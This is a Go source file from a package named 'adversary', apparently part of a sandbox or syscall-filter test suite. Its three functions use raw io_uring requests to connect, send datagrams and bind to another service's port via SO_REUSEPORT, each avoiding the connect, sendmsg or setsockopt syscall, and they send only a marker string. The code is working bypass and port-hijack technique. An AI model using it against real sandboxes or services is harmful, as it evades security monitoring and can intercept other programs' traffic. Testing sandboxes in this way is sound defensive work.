package adversary

import (
	"encoding/binary"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Everything in this file runs in the attacker's process.

// attackUringConnect connects and writes, the first without connect(2).
func attackUringConnect(t *Target) ([]byte, error) {
	at, family, err := t.service("")
	if err != nil {
		return nil, err
	}
	fd, err := openSocket(family, unix.SOCK_STREAM)
	if err != nil {
		return nil, err
	}
	defer unix.Close(fd)
	raw := rawInet4(at.(*unix.SockaddrInet4), unix.AF_INET)
	_, err = uringRequest(func(sqe []byte) {
		sqe[0] = uringConnect
		binary.NativeEndian.PutUint32(sqe[4:], uint32(fd))
		binary.NativeEndian.PutUint64(sqe[8:], uint64(unsafe.Sizeof(*raw)))
		binary.NativeEndian.PutUint64(sqe[16:], address(raw))
	})
	if err != nil {
		return nil, err
	}
	_, err = unix.Write(fd, []byte(mark))
	return nil, call("write", err)
}

// attackUringSend sends a datagram without sendmsg(2).
func attackUringSend(t *Target) ([]byte, error) {
	at, family, err := t.service("")
	if err != nil {
		return nil, err
	}
	fd, err := openSocket(family, unix.SOCK_DGRAM)
	if err != nil {
		return nil, err
	}
	defer unix.Close(fd)
	raw := rawInet4(at.(*unix.SockaddrInet4), unix.AF_INET)
	data := []byte(mark)
	part := unix.Iovec{Base: &data[0]}
	part.SetLen(len(data))
	message := &unix.Msghdr{Name: (*byte)(unsafe.Pointer(raw)),
		Namelen: uint32(unsafe.Sizeof(*raw)), Iov: &part, Iovlen: 1}
	_, err = uringRequest(func(sqe []byte) {
		sqe[0] = uringSendmsg
		binary.NativeEndian.PutUint32(sqe[4:], uint32(fd))
		binary.NativeEndian.PutUint64(sqe[16:], address(message))
		binary.NativeEndian.PutUint32(sqe[24:], 1)
	})
	return nil, err
}

// attackUringSteal joins a service's port without setsockopt(2): since 6.7.
func attackUringSteal(t *Target) ([]byte, error) {
	own, err := bindAfter(unix.SOCK_STREAM, t.Args["service"], func(fd int) error {
		on := int32(1)
		_, err := uringRequest(func(sqe []byte) {
			const command, setsockopt = 46, 3
			order := binary.NativeEndian
			sqe[0] = command
			order.PutUint32(sqe[4:], uint32(fd))
			order.PutUint32(sqe[8:], setsockopt)
			order.PutUint32(sqe[16:], unix.SOL_SOCKET)
			order.PutUint32(sqe[20:], unix.SO_REUSEPORT)
			order.PutUint32(sqe[44:], uint32(unsafe.Sizeof(on)))
			order.PutUint64(sqe[48:], address(&on))
		})
		return err
	})
	if err != nil {
		return nil, err
	}
	defer unix.Close(own)
	return t.takeCall(own)
}
